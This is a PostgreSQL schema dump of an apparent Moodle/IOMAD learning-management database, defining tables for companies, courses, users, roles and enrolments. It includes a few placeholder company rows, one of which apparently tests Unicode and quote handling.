--
-- PostgreSQL database dump
--


-- Dumped from database version 15.20 (Debian 15.20-0+deb12u1)
-- Dumped by pg_dump version 15.20 (Debian 15.20-0+deb12u1)

SET statement_timeout = 0;
SET lock_timeout = 0;
SET idle_in_transaction_session_timeout = 0;
SET client_encoding = 'UTF8';
SET standard_conforming_strings = on;
SELECT pg_catalog.set_config('search_path', '', false);
SET check_function_bodies = false;
SET xmloption = content;
SET client_min_messages = warning;
SET row_security = off;

SET default_tablespace = '';

SET default_table_access_method = heap;

--
-- Name: mdl_company; Type: TABLE; Schema: public; Owner: -
--

CREATE TABLE public.mdl_company (
    id bigint NOT NULL,
    name character varying(50) DEFAULT ''::character varying NOT NULL,
    shortname character varying(25) DEFAULT ''::character varying NOT NULL,
    code character varying(255),
    address text,
    city character varying(50) DEFAULT ''::character varying NOT NULL,
    region character varying(50),
    postcode character varying(20),
    country character varying(2) DEFAULT ''::character varying NOT NULL,
    maildisplay smallint DEFAULT 2 NOT NULL,
    mailformat smallint DEFAULT 1 NOT NULL,
    maildigest smallint DEFAULT 0 NOT NULL,
    autosubscribe smallint DEFAULT 1 NOT NULL,
    trackforums smallint DEFAULT 0 NOT NULL,
    htmleditor smallint DEFAULT 1 NOT NULL,
    screenreader smallint DEFAULT 0 NOT NULL,
    timezone character varying(100) DEFAULT '99'::character varying NOT NULL,
    lang character varying(30) DEFAULT 'en'::character varying NOT NULL,
    bgcolor_header character varying(7),
    bgcolor_content character varying(7),
    theme character varying(50) DEFAULT ''::character varying NOT NULL,
    category bigint DEFAULT 0 NOT NULL,
    profileid bigint DEFAULT 0 NOT NULL,
    suspended smallint DEFAULT 0 NOT NULL,
    customcss text,
    maincolor character varying(20) DEFAULT 'null'::character varying,
    headingcolor character varying(20) DEFAULT 'null'::character varying,
    linkcolor character varying(20) DEFAULT 'null'::character varying,
    emailprofileid bigint,
    supervisorprofileid bigint DEFAULT 0 NOT NULL,
    managernotify bigint DEFAULT 0 NOT NULL,
    parentid bigint DEFAULT 0 NOT NULL,
    ecommerce smallint DEFAULT 0 NOT NULL,
    custommenuitems text,
    managerdigestday smallint DEFAULT 0 NOT NULL,
    previousroletemplateid bigint DEFAULT 0 NOT NULL,
    previousemailtemplateid bigint DEFAULT 0 NOT NULL,
    hostname character varying(200),
    maxusers bigint DEFAULT 0 NOT NULL,
    validto bigint,
    suspendafter bigint,
    companyterminated smallint DEFAULT 0 NOT NULL,
    custom1 character varying(255),
    custom2 character varying(255),
    custom3 character varying(255),
    paymentaccount bigint,
    departmentprofileid bigint DEFAULT 0 NOT NULL
);


--
-- Name: mdl_company_course; Type: TABLE; Schema: public; Owner: -
--

CREATE TABLE public.mdl_company_course (
    id bigint NOT NULL,
    companyid bigint NOT NULL,
    courseid bigint NOT NULL,
    departmentid bigint NOT NULL
);


--
-- Name: mdl_company_course_id_seq; Type: SEQUENCE; Schema: public; Owner: -
--

CREATE SEQUENCE public.mdl_company_course_id_seq
    START WITH 1
    INCREMENT BY 1
    NO MINVALUE
    NO MAXVALUE
    CACHE 1;


--
-- Name: mdl_company_course_id_seq; Type: SEQUENCE OWNED BY; Schema: public; Owner: -
--

ALTER SEQUENCE public.mdl_company_course_id_seq OWNED BY public.mdl_company_course.id;


--
-- Name: mdl_company_id_seq; Type: SEQUENCE; Schema: public; Owner: -
--

CREATE SEQUENCE public.mdl_company_id_seq
    START WITH 1
    INCREMENT BY 1
    NO MINVALUE
    NO MAXVALUE
    CACHE 1;


--
-- Name: mdl_company_id_seq; Type: SEQUENCE OWNED BY; Schema: public; Owner: -
--

ALTER SEQUENCE public.mdl_company_id_seq OWNED BY public.mdl_company.id;


--
-- Name: mdl_company_users; Type: TABLE; Schema: public; Owner: -
--

CREATE TABLE public.mdl_company_users (
    id bigint NOT NULL,
    companyid bigint NOT NULL,
    userid bigint NOT NULL,
    managertype smallint DEFAULT 0 NOT NULL,
    departmentid bigint NOT NULL,
    suspended smallint DEFAULT 0 NOT NULL,
    educator smallint DEFAULT 0 NOT NULL
);


--
-- Name: mdl_company_users_id_seq; Type: SEQUENCE; Schema: public; Owner: -
--

CREATE SEQUENCE public.mdl_company_users_id_seq
    START WITH 1
    INCREMENT BY 1
    NO MINVALUE
    NO MAXVALUE
    CACHE 1;


--
-- Name: mdl_company_users_id_seq; Type: SEQUENCE OWNED BY; Schema: public; Owner: -
--

ALTER SEQUENCE public.mdl_company_users_id_seq OWNED BY public.mdl_company_users.id;


--
-- Name: mdl_config; Type: TABLE; Schema: public; Owner: -
--

CREATE TABLE public.mdl_config (
    id bigint NOT NULL,
    name character varying(255) DEFAULT ''::character varying NOT NULL,
    value text NOT NULL
);


--
-- Name: mdl_config_id_seq; Type: SEQUENCE; Schema: public; Owner: -
--

CREATE SEQUENCE public.mdl_config_id_seq
    START WITH 1
    INCREMENT BY 1
    NO MINVALUE
    NO MAXVALUE
    CACHE 1;


--
-- Name: mdl_config_id_seq; Type: SEQUENCE OWNED BY; Schema: public; Owner: -
--

ALTER SEQUENCE public.mdl_config_id_seq OWNED BY public.mdl_config.id;


--
-- Name: mdl_context; Type: TABLE; Schema: public; Owner: -
--

CREATE TABLE public.mdl_context (
    id bigint NOT NULL,
    contextlevel bigint DEFAULT 0 NOT NULL,
    instanceid bigint DEFAULT 0 NOT NULL,
    path character varying(255),
    depth smallint DEFAULT 0 NOT NULL,
    locked smallint DEFAULT 0 NOT NULL
);


--
-- Name: mdl_context_id_seq; Type: SEQUENCE; Schema: public; Owner: -
--

CREATE SEQUENCE public.mdl_context_id_seq
    START WITH 1
    INCREMENT BY 1
    NO MINVALUE
    NO MAXVALUE
    CACHE 1;


--
-- Name: mdl_context_id_seq; Type: SEQUENCE OWNED BY; Schema: public; Owner: -
--

ALTER SEQUENCE public.mdl_context_id_seq OWNED BY public.mdl_context.id;


--
-- Name: mdl_course; Type: TABLE; Schema: public; Owner: -
--

CREATE TABLE public.mdl_course (
    id bigint NOT NULL,
    category bigint DEFAULT 0 NOT NULL,
    sortorder bigint DEFAULT 0 NOT NULL,
    fullname character varying(254) DEFAULT ''::character varying NOT NULL,
    shortname character varying(255) DEFAULT ''::character varying NOT NULL,
    idnumber character varying(100) DEFAULT ''::character varying NOT NULL,
    summary text,
    summaryformat smallint DEFAULT 0 NOT NULL,
    format character varying(21) DEFAULT 'topics'::character varying NOT NULL,
    showgrades smallint DEFAULT 1 NOT NULL,
    newsitems integer DEFAULT 1 NOT NULL,
    startdate bigint DEFAULT 0 NOT NULL,
    enddate bigint DEFAULT 0 NOT NULL,
    relativedatesmode smallint DEFAULT 0 NOT NULL,
    marker bigint DEFAULT 0 NOT NULL,
    maxbytes bigint DEFAULT 0 NOT NULL,
    legacyfiles smallint DEFAULT 0 NOT NULL,
    showreports smallint DEFAULT 0 NOT NULL,
    visible smallint DEFAULT 1 NOT NULL,
    visibleold smallint DEFAULT 1 NOT NULL,
    downloadcontent smallint,
    groupmode smallint DEFAULT 0 NOT NULL,
    groupmodeforce smallint DEFAULT 0 NOT NULL,
    defaultgroupingid bigint DEFAULT 0 NOT NULL,
    lang character varying(30) DEFAULT ''::character varying NOT NULL,
    calendartype character varying(30) DEFAULT ''::character varying NOT NULL,
    theme character varying(50) DEFAULT ''::character varying NOT NULL,
    timecreated bigint DEFAULT 0 NOT NULL,
    timemodified bigint DEFAULT 0 NOT NULL,
    requested smallint DEFAULT 0 NOT NULL,
    enablecompletion smallint DEFAULT 0 NOT NULL,
    completionnotify smallint DEFAULT 0 NOT NULL,
    cacherev bigint DEFAULT 0 NOT NULL,
    originalcourseid bigint,
    showactivitydates smallint DEFAULT 0 NOT NULL,
    showcompletionconditions smallint
);


--
-- Name: mdl_course_categories; Type: TABLE; Schema: public; Owner: -
--

CREATE TABLE public.mdl_course_categories (
    id bigint NOT NULL,
    name character varying(255) DEFAULT ''::character varying NOT NULL,
    idnumber character varying(100),
    description text,
    descriptionformat smallint DEFAULT 0 NOT NULL,
    parent bigint DEFAULT 0 NOT NULL,
    sortorder bigint DEFAULT 0 NOT NULL,
    coursecount bigint DEFAULT 0 NOT NULL,
    visible smallint DEFAULT 1 NOT NULL,
    visibleold smallint DEFAULT 1 NOT NULL,
    timemodified bigint DEFAULT 0 NOT NULL,
    depth bigint DEFAULT 0 NOT NULL,
    path character varying(255) DEFAULT ''::character varying NOT NULL,
    theme character varying(50)
);


--
-- Name: mdl_course_categories_id_seq; Type: SEQUENCE; Schema: public; Owner: -
--

CREATE SEQUENCE public.mdl_course_categories_id_seq
    START WITH 1
    INCREMENT BY 1
    NO MINVALUE
    NO MAXVALUE
    CACHE 1;


--
-- Name: mdl_course_categories_id_seq; Type: SEQUENCE OWNED BY; Schema: public; Owner: -
--

ALTER SEQUENCE public.mdl_course_categories_id_seq OWNED BY public.mdl_course_categories.id;


--
-- Name: mdl_course_completions; Type: TABLE; Schema: public; Owner: -
--

CREATE TABLE public.mdl_course_completions (
    id bigint NOT NULL,
    userid bigint DEFAULT 0 NOT NULL,
    course bigint DEFAULT 0 NOT NULL,
    timeenrolled bigint DEFAULT 0 NOT NULL,
    timestarted bigint DEFAULT 0 NOT NULL,
    timecompleted bigint,
    reaggregate bigint DEFAULT 0 NOT NULL
);


--
-- Name: mdl_course_completions_id_seq; Type: SEQUENCE; Schema: public; Owner: -
--

CREATE SEQUENCE public.mdl_course_completions_id_seq
    START WITH 1
    INCREMENT BY 1
    NO MINVALUE
    NO MAXVALUE
    CACHE 1;


--
-- Name: mdl_course_completions_id_seq; Type: SEQUENCE OWNED BY; Schema: public; Owner: -
--

ALTER SEQUENCE public.mdl_course_completions_id_seq OWNED BY public.mdl_course_completions.id;


--
-- Name: mdl_course_id_seq; Type: SEQUENCE; Schema: public; Owner: -
--

CREATE SEQUENCE public.mdl_course_id_seq
    START WITH 1
    INCREMENT BY 1
    NO MINVALUE
    NO MAXVALUE
    CACHE 1;


--
-- Name: mdl_course_id_seq; Type: SEQUENCE OWNED BY; Schema: public; Owner: -
--

ALTER SEQUENCE public.mdl_course_id_seq OWNED BY public.mdl_course.id;


--
-- Name: mdl_course_modules; Type: TABLE; Schema: public; Owner: -
--

CREATE TABLE public.mdl_course_modules (
    id bigint NOT NULL,
    course bigint DEFAULT 0 NOT NULL,
    module bigint DEFAULT 0 NOT NULL,
    instance bigint DEFAULT 0 NOT NULL,
    section bigint DEFAULT 0 NOT NULL,
    idnumber character varying(100),
    added bigint DEFAULT 0 NOT NULL,
    score smallint DEFAULT 0 NOT NULL,
    indent integer DEFAULT 0 NOT NULL,
    visible smallint DEFAULT 1 NOT NULL,
    visibleoncoursepage smallint DEFAULT 1 NOT NULL,
    visibleold smallint DEFAULT 1 NOT NULL,
    groupmode smallint DEFAULT 0 NOT NULL,
    groupingid bigint DEFAULT 0 NOT NULL,
    completion smallint DEFAULT 0 NOT NULL,
    completiongradeitemnumber bigint,
    completionview smallint DEFAULT 0 NOT NULL,
    completionexpected bigint DEFAULT 0 NOT NULL,
    completionpassgrade smallint DEFAULT 0 NOT NULL,
    showdescription smallint DEFAULT 0 NOT NULL,
    availability text,
    deletioninprogress smallint DEFAULT 0 NOT NULL,
    downloadcontent smallint DEFAULT 1,
    lang character varying(30)
);


--
-- Name: mdl_course_modules_completion; Type: TABLE; Schema: public; Owner: -
--

CREATE TABLE public.mdl_course_modules_completion (
    id bigint NOT NULL,
    coursemoduleid bigint NOT NULL,
    userid bigint NOT NULL,
    completionstate smallint NOT NULL,
    overrideby bigint,
    timemodified bigint NOT NULL
);


--
-- Name: mdl_course_modules_completion_id_seq; Type: SEQUENCE; Schema: public; Owner: -
--

CREATE SEQUENCE public.mdl_course_modules_completion_id_seq
    START WITH 1
    INCREMENT BY 1
    NO MINVALUE
    NO MAXVALUE
    CACHE 1;


--
-- Name: mdl_course_modules_completion_id_seq; Type: SEQUENCE OWNED BY; Schema: public; Owner: -
--

ALTER SEQUENCE public.mdl_course_modules_completion_id_seq OWNED BY public.mdl_course_modules_completion.id;


--
-- Name: mdl_course_modules_id_seq; Type: SEQUENCE; Schema: public; Owner: -
--

CREATE SEQUENCE public.mdl_course_modules_id_seq
    START WITH 1
    INCREMENT BY 1
    NO MINVALUE
    NO MAXVALUE
    CACHE 1;


--
-- Name: mdl_course_modules_id_seq; Type: SEQUENCE OWNED BY; Schema: public; Owner: -
--

ALTER SEQUENCE public.mdl_course_modules_id_seq OWNED BY public.mdl_course_modules.id;


--
-- Name: mdl_course_sections; Type: TABLE; Schema: public; Owner: -
--

CREATE TABLE public.mdl_course_sections (
    id bigint NOT NULL,
    course bigint DEFAULT 0 NOT NULL,
    section bigint DEFAULT 0 NOT NULL,
    name character varying(255),
    summary text,
    summaryformat smallint DEFAULT 0 NOT NULL,
    sequence text,
    visible smallint DEFAULT 1 NOT NULL,
    availability text,
    timemodified bigint DEFAULT 0 NOT NULL
);


--
-- Name: mdl_course_sections_id_seq; Type: SEQUENCE; Schema: public; Owner: -
--

CREATE SEQUENCE public.mdl_course_sections_id_seq
    START WITH 1
    INCREMENT BY 1
    NO MINVALUE
    NO MAXVALUE
    CACHE 1;


--
-- Name: mdl_course_sections_id_seq; Type: SEQUENCE OWNED BY; Schema: public; Owner: -
--

ALTER SEQUENCE public.mdl_course_sections_id_seq OWNED BY public.mdl_course_sections.id;


--
-- Name: mdl_department; Type: TABLE; Schema: public; Owner: -
--

CREATE TABLE public.mdl_department (
    id bigint NOT NULL,
    name character varying(255) DEFAULT ''::character varying NOT NULL,
    shortname character varying(32) DEFAULT ''::character varying NOT NULL,
    company bigint DEFAULT 0 NOT NULL,
    parent bigint
);


--
-- Name: mdl_department_id_seq; Type: SEQUENCE; Schema: public; Owner: -
--

CREATE SEQUENCE public.mdl_department_id_seq
    START WITH 1
    INCREMENT BY 1
    NO MINVALUE
    NO MAXVALUE
    CACHE 1;


--
-- Name: mdl_department_id_seq; Type: SEQUENCE OWNED BY; Schema: public; Owner: -
--

ALTER SEQUENCE public.mdl_department_id_seq OWNED BY public.mdl_department.id;


--
-- Name: mdl_enrol; Type: TABLE; Schema: public; Owner: -
--

CREATE TABLE public.mdl_enrol (
    id bigint NOT NULL,
    enrol character varying(20) DEFAULT ''::character varying NOT NULL,
    status bigint DEFAULT 0 NOT NULL,
    courseid bigint NOT NULL,
    sortorder bigint DEFAULT 0 NOT NULL,
    name character varying(255),
    enrolperiod bigint DEFAULT 0,
    enrolstartdate bigint DEFAULT 0,
    enrolenddate bigint DEFAULT 0,
    expirynotify smallint DEFAULT 0,
    expirythreshold bigint DEFAULT 0,
    notifyall smallint DEFAULT 0,
    password character varying(50),
    cost character varying(20),
    currency character varying(3),
    roleid bigint DEFAULT 0,
    customint1 bigint,
    customint2 bigint,
    customint3 bigint,
    customint4 bigint,
    customint5 bigint,
    customint6 bigint,
    customint7 bigint,
    customint8 bigint,
    customchar1 character varying(255),
    customchar2 character varying(255),
    customchar3 character varying(1333),
    customdec1 numeric(12,7),
    customdec2 numeric(12,7),
    customtext1 text,
    customtext2 text,
    customtext3 text,
    customtext4 text,
    timecreated bigint DEFAULT 0 NOT NULL,
    timemodified bigint DEFAULT 0 NOT NULL
);


--
-- Name: mdl_enrol_id_seq; Type: SEQUENCE; Schema: public; Owner: -
--

CREATE SEQUENCE public.mdl_enrol_id_seq
    START WITH 1
    INCREMENT BY 1
    NO MINVALUE
    NO MAXVALUE
    CACHE 1;


--
-- Name: mdl_enrol_id_seq; Type: SEQUENCE OWNED BY; Schema: public; Owner: -
--

ALTER SEQUENCE public.mdl_enrol_id_seq OWNED BY public.mdl_enrol.id;


--
-- Name: mdl_iomad_courses; Type: TABLE; Schema: public; Owner: -
--

CREATE TABLE public.mdl_iomad_courses (
    id bigint NOT NULL,
    courseid bigint NOT NULL,
    licensed smallint DEFAULT 0,
    shared smallint DEFAULT 0,
    validlength bigint DEFAULT 0,
    warnexpire bigint DEFAULT 0 NOT NULL,
    warncompletion bigint DEFAULT 0 NOT NULL,
    notifyperiod bigint DEFAULT 0 NOT NULL,
    expireafter bigint DEFAULT 0 NOT NULL,
    warnnotstarted bigint DEFAULT 0 NOT NULL,
    hasgrade smallint DEFAULT 1 NOT NULL
);


--
-- Name: mdl_iomad_courses_id_seq; Type: SEQUENCE; Schema: public; Owner: -
--

CREATE SEQUENCE public.mdl_iomad_courses_id_seq
    START WITH 1
    INCREMENT BY 1
    NO MINVALUE
    NO MAXVALUE
    CACHE 1;


--
-- Name: mdl_iomad_courses_id_seq; Type: SEQUENCE OWNED BY; Schema: public; Owner: -
--

ALTER SEQUENCE public.mdl_iomad_courses_id_seq OWNED BY public.mdl_iomad_courses.id;


--
-- Name: mdl_modules; Type: TABLE; Schema: public; Owner: -
--

CREATE TABLE public.mdl_modules (
    id bigint NOT NULL,
    name character varying(20) DEFAULT ''::character varying NOT NULL,
    cron bigint DEFAULT 0 NOT NULL,
    lastcron bigint DEFAULT 0 NOT NULL,
    search character varying(255) DEFAULT ''::character varying NOT NULL,
    visible smallint DEFAULT 1 NOT NULL
);


--
-- Name: mdl_modules_id_seq; Type: SEQUENCE; Schema: public; Owner: -
--

CREATE SEQUENCE public.mdl_modules_id_seq
    START WITH 1
    INCREMENT BY 1
    NO MINVALUE
    NO MAXVALUE
    CACHE 1;


--
-- Name: mdl_modules_id_seq; Type: SEQUENCE OWNED BY; Schema: public; Owner: -
--

ALTER SEQUENCE public.mdl_modules_id_seq OWNED BY public.mdl_modules.id;


--
-- Name: mdl_role; Type: TABLE; Schema: public; Owner: -
--

CREATE TABLE public.mdl_role (
    id bigint NOT NULL,
    name character varying(255) DEFAULT ''::character varying NOT NULL,
    shortname character varying(100) DEFAULT ''::character varying NOT NULL,
    description text NOT NULL,
    sortorder bigint DEFAULT 0 NOT NULL,
    archetype character varying(30) DEFAULT ''::character varying NOT NULL
);


--
-- Name: mdl_role_assignments; Type: TABLE; Schema: public; Owner: -
--

CREATE TABLE public.mdl_role_assignments (
    id bigint NOT NULL,
    roleid bigint DEFAULT 0 NOT NULL,
    contextid bigint DEFAULT 0 NOT NULL,
    userid bigint DEFAULT 0 NOT NULL,
    timemodified bigint DEFAULT 0 NOT NULL,
    modifierid bigint DEFAULT 0 NOT NULL,
    component character varying(100) DEFAULT ''::character varying NOT NULL,
    itemid bigint DEFAULT 0 NOT NULL,
    sortorder bigint DEFAULT 0 NOT NULL
);


--
-- Name: mdl_role_assignments_id_seq; Type: SEQUENCE; Schema: public; Owner: -
--

CREATE SEQUENCE public.mdl_role_assignments_id_seq
    START WITH 1
    INCREMENT BY 1
    NO MINVALUE
    NO MAXVALUE
    CACHE 1;


--
-- Name: mdl_role_assignments_id_seq; Type: SEQUENCE OWNED BY; Schema: public; Owner: -
--

ALTER SEQUENCE public.mdl_role_assignments_id_seq OWNED BY public.mdl_role_assignments.id;


--
-- Name: mdl_role_capabilities; Type: TABLE; Schema: public; Owner: -
--

CREATE TABLE public.mdl_role_capabilities (
    id bigint NOT NULL,
    contextid bigint DEFAULT 0 NOT NULL,
    roleid bigint DEFAULT 0 NOT NULL,
    capability character varying(255) DEFAULT ''::character varying NOT NULL,
    permission bigint DEFAULT 0 NOT NULL,
    timemodified bigint DEFAULT 0 NOT NULL,
    modifierid bigint DEFAULT 0 NOT NULL
);


--
-- Name: mdl_role_capabilities_id_seq; Type: SEQUENCE; Schema: public; Owner: -
--

CREATE SEQUENCE public.mdl_role_capabilities_id_seq
    START WITH 1
    INCREMENT BY 1
    NO MINVALUE
    NO MAXVALUE
    CACHE 1;


--
-- Name: mdl_role_capabilities_id_seq; Type: SEQUENCE OWNED BY; Schema: public; Owner: -
--

ALTER SEQUENCE public.mdl_role_capabilities_id_seq OWNED BY public.mdl_role_capabilities.id;


--
-- Name: mdl_role_id_seq; Type: SEQUENCE; Schema: public; Owner: -
--

CREATE SEQUENCE public.mdl_role_id_seq
    START WITH 1
    INCREMENT BY 1
    NO MINVALUE
    NO MAXVALUE
    CACHE 1;


--
-- Name: mdl_role_id_seq; Type: SEQUENCE OWNED BY; Schema: public; Owner: -
--

ALTER SEQUENCE public.mdl_role_id_seq OWNED BY public.mdl_role.id;


--
-- Name: mdl_user; Type: TABLE; Schema: public; Owner: -
--

CREATE TABLE public.mdl_user (
    id bigint NOT NULL,
    auth character varying(20) DEFAULT 'manual'::character varying NOT NULL,
    confirmed smallint DEFAULT 0 NOT NULL,
    policyagreed smallint DEFAULT 0 NOT NULL,
    deleted smallint DEFAULT 0 NOT NULL,
    suspended smallint DEFAULT 0 NOT NULL,
    mnethostid bigint DEFAULT 0 NOT NULL,
    username character varying(100) DEFAULT ''::character varying NOT NULL,
    password character varying(255) DEFAULT ''::character varying NOT NULL,
    idnumber character varying(255) DEFAULT ''::character varying NOT NULL,
    firstname character varying(100) DEFAULT ''::character varying NOT NULL,
    lastname character varying(100) DEFAULT ''::character varying NOT NULL,
    email character varying(100) DEFAULT ''::character varying NOT NULL,
    emailstop smallint DEFAULT 0 NOT NULL,
    phone1 character varying(20) DEFAULT ''::character varying NOT NULL,
    phone2 character varying(20) DEFAULT ''::character varying NOT NULL,
    institution character varying(255) DEFAULT ''::character varying NOT NULL,
    department character varying(255) DEFAULT ''::character varying NOT NULL,
    address character varying(255) DEFAULT ''::character varying NOT NULL,
    city character varying(120) DEFAULT ''::character varying NOT NULL,
    country character varying(2) DEFAULT ''::character varying NOT NULL,
    lang character varying(30) DEFAULT 'en'::character varying NOT NULL,
    calendartype character varying(30) DEFAULT 'gregorian'::character varying NOT NULL,
    theme character varying(50) DEFAULT ''::character varying NOT NULL,
    timezone character varying(100) DEFAULT '99'::character varying NOT NULL,
    firstaccess bigint DEFAULT 0 NOT NULL,
    lastaccess bigint DEFAULT 0 NOT NULL,
    lastlogin bigint DEFAULT 0 NOT NULL,
    currentlogin bigint DEFAULT 0 NOT NULL,
    lastip character varying(45) DEFAULT ''::character varying NOT NULL,
    secret character varying(15) DEFAULT ''::character varying NOT NULL,
    picture bigint DEFAULT 0 NOT NULL,
    description text,
    descriptionformat smallint DEFAULT 1 NOT NULL,
    mailformat smallint DEFAULT 1 NOT NULL,
    maildigest smallint DEFAULT 0 NOT NULL,
    maildisplay smallint DEFAULT 2 NOT NULL,
    autosubscribe smallint DEFAULT 1 NOT NULL,
    trackforums smallint DEFAULT 0 NOT NULL,
    timecreated bigint DEFAULT 0 NOT NULL,
    timemodified bigint DEFAULT 0 NOT NULL,
    trustbitmask bigint DEFAULT 0 NOT NULL,
    imagealt character varying(255),
    lastnamephonetic character varying(255),
    firstnamephonetic character varying(255),
    middlename character varying(255),
    alternatename character varying(255),
    moodlenetprofile character varying(255)
);


--
-- Name: mdl_user_enrolments; Type: TABLE; Schema: public; Owner: -
--

CREATE TABLE public.mdl_user_enrolments (
    id bigint NOT NULL,
    status bigint DEFAULT 0 NOT NULL,
    enrolid bigint NOT NULL,
    userid bigint NOT NULL,
    timestart bigint DEFAULT 0 NOT NULL,
    timeend bigint DEFAULT 2147483647 NOT NULL,
    modifierid bigint DEFAULT 0 NOT NULL,
    timecreated bigint DEFAULT 0 NOT NULL,
    timemodified bigint DEFAULT 0 NOT NULL
);


--
-- Name: mdl_user_enrolments_id_seq; Type: SEQUENCE; Schema: public; Owner: -
--

CREATE SEQUENCE public.mdl_user_enrolments_id_seq
    START WITH 1
    INCREMENT BY 1
    NO MINVALUE
    NO MAXVALUE
    CACHE 1;


--
-- Name: mdl_user_enrolments_id_seq; Type: SEQUENCE OWNED BY; Schema: public; Owner: -
--

ALTER SEQUENCE public.mdl_user_enrolments_id_seq OWNED BY public.mdl_user_enrolments.id;


--
-- Name: mdl_user_id_seq; Type: SEQUENCE; Schema: public; Owner: -
--

CREATE SEQUENCE public.mdl_user_id_seq
    START WITH 1
    INCREMENT BY 1
    NO MINVALUE
    NO MAXVALUE
    CACHE 1;


--
-- Name: mdl_user_id_seq; Type: SEQUENCE OWNED BY; Schema: public; Owner: -
--

ALTER SEQUENCE public.mdl_user_id_seq OWNED BY public.mdl_user.id;


--
-- Name: mdl_company id; Type: DEFAULT; Schema: public; Owner: -
--

ALTER TABLE ONLY public.mdl_company ALTER COLUMN id SET DEFAULT nextval('public.mdl_company_id_seq'::regclass);


--
-- Name: mdl_company_course id; Type: DEFAULT; Schema: public; Owner: -
--

ALTER TABLE ONLY public.mdl_company_course ALTER COLUMN id SET DEFAULT nextval('public.mdl_company_course_id_seq'::regclass);


--
-- Name: mdl_company_users id; Type: DEFAULT; Schema: public; Owner: -
--

ALTER TABLE ONLY public.mdl_company_users ALTER COLUMN id SET DEFAULT nextval('public.mdl_company_users_id_seq'::regclass);


--
-- Name: mdl_config id; Type: DEFAULT; Schema: public; Owner: -
--

ALTER TABLE ONLY public.mdl_config ALTER COLUMN id SET DEFAULT nextval('public.mdl_config_id_seq'::regclass);


--
-- Name: mdl_context id; Type: DEFAULT; Schema: public; Owner: -
--

ALTER TABLE ONLY public.mdl_context ALTER COLUMN id SET DEFAULT nextval('public.mdl_context_id_seq'::regclass);


--
-- Name: mdl_course id; Type: DEFAULT; Schema: public; Owner: -
--

ALTER TABLE ONLY public.mdl_course ALTER COLUMN id SET DEFAULT nextval('public.mdl_course_id_seq'::regclass);


--
-- Name: mdl_course_categories id; Type: DEFAULT; Schema: public; Owner: -
--

ALTER TABLE ONLY public.mdl_course_categories ALTER COLUMN id SET DEFAULT nextval('public.mdl_course_categories_id_seq'::regclass);


--
-- Name: mdl_course_completions id; Type: DEFAULT; Schema: public; Owner: -
--

ALTER TABLE ONLY public.mdl_course_completions ALTER COLUMN id SET DEFAULT nextval('public.mdl_course_completions_id_seq'::regclass);


--
-- Name: mdl_course_modules id; Type: DEFAULT; Schema: public; Owner: -
--

ALTER TABLE ONLY public.mdl_course_modules ALTER COLUMN id SET DEFAULT nextval('public.mdl_course_modules_id_seq'::regclass);


--
-- Name: mdl_course_modules_completion id; Type: DEFAULT; Schema: public; Owner: -
--

ALTER TABLE ONLY public.mdl_course_modules_completion ALTER COLUMN id SET DEFAULT nextval('public.mdl_course_modules_completion_id_seq'::regclass);


--
-- Name: mdl_course_sections id; Type: DEFAULT; Schema: public; Owner: -
--

ALTER TABLE ONLY public.mdl_course_sections ALTER COLUMN id SET DEFAULT nextval('public.mdl_course_sections_id_seq'::regclass);


--
-- Name: mdl_department id; Type: DEFAULT; Schema: public; Owner: -
--

ALTER TABLE ONLY public.mdl_department ALTER COLUMN id SET DEFAULT nextval('public.mdl_department_id_seq'::regclass);


--
-- Name: mdl_enrol id; Type: DEFAULT; Schema: public; Owner: -
--

ALTER TABLE ONLY public.mdl_enrol ALTER COLUMN id SET DEFAULT nextval('public.mdl_enrol_id_seq'::regclass);


--
-- Name: mdl_iomad_courses id; Type: DEFAULT; Schema: public; Owner: -
--

ALTER TABLE ONLY public.mdl_iomad_courses ALTER COLUMN id SET DEFAULT nextval('public.mdl_iomad_courses_id_seq'::regclass);


--
-- Name: mdl_modules id; Type: DEFAULT; Schema: public; Owner: -
--

ALTER TABLE ONLY public.mdl_modules ALTER COLUMN id SET DEFAULT nextval('public.mdl_modules_id_seq'::regclass);


--
-- Name: mdl_role id; Type: DEFAULT; Schema: public; Owner: -
--

ALTER TABLE ONLY public.mdl_role ALTER COLUMN id SET DEFAULT nextval('public.mdl_role_id_seq'::regclass);


--
-- Name: mdl_role_assignments id; Type: DEFAULT; Schema: public; Owner: -
--

ALTER TABLE ONLY public.mdl_role_assignments ALTER COLUMN id SET DEFAULT nextval('public.mdl_role_assignments_id_seq'::regclass);


--
-- Name: mdl_role_capabilities id; Type: DEFAULT; Schema: public; Owner: -
--

ALTER TABLE ONLY public.mdl_role_capabilities ALTER COLUMN id SET DEFAULT nextval('public.mdl_role_capabilities_id_seq'::regclass);


--
-- Name: mdl_user id; Type: DEFAULT; Schema: public; Owner: -
--

ALTER TABLE ONLY public.mdl_user ALTER COLUMN id SET DEFAULT nextval('public.mdl_user_id_seq'::regclass);


--
-- Name: mdl_user_enrolments id; Type: DEFAULT; Schema: public; Owner: -
--

ALTER TABLE ONLY public.mdl_user_enrolments ALTER COLUMN id SET DEFAULT nextval('public.mdl_user_enrolments_id_seq'::regclass);


--
-- Data for Name: mdl_company; Type: TABLE DATA; Schema: public; Owner: -
--

COPY public.mdl_company (id, name, shortname, code, address, city, region, postcode, country, maildisplay, mailformat, maildigest, autosubscribe, trackforums, htmleditor, screenreader, timezone, lang, bgcolor_header, bgcolor_content, theme, category, profileid, suspended, customcss, maincolor, headingcolor, linkcolor, emailprofileid, supervisorprofileid, managernotify, parentid, ecommerce, custommenuitems, managerdigestday, previousroletemplateid, previousemailtemplateid, hostname, maxusers, validto, suspendafter, companyterminated, custom1, custom2, custom3, paymentaccount, departmentprofileid) FROM stdin;
1	Acme Learning	acme		\N	London	\N	\N	GB	2	1	0	1	0	1	0	99	en	\N	\N		2	0	0					\N	0	0	0	0	\N	0	0	0		0	\N	0	0	\N	\N	\N	\N	0
2	Globex Corporation	globex		\N	London	\N	\N	GB	2	1	0	1	0	1	0	99	en	\N	\N		3	0	0					\N	0	0	0	0	\N	0	0	0		0	\N	0	0	\N	\N	\N	\N	0
3	Ünïcode & Söhne GmbH 日本 "O'Neil"	unicode		\N	London	\N	\N	GB	2	1	0	1	0	1	0	99	en	\N	\N		4	0	0					\N	0	0	0	0	\N	0	0	0		0	\N	0	0	\N	\N	\N	\N	0
4	Hooli	hooli		\N	London	\N	\N	GB	2	1	0	1	0	1	0	99	en	\N	\N		5	0	0					\N	0	0	0	0	\N	0	0	0		0	\N	0	0	\N	\N	\N	\N	0
6	Empty Co	empty		\N	London	\N	\N	GB	2	1	0	1	0	1	0	99	en	\N	\N		7	0	0					\N	0	0	0	0	\N	0	0	0		0	\N	0	0	\N	\N	\N	\N	0
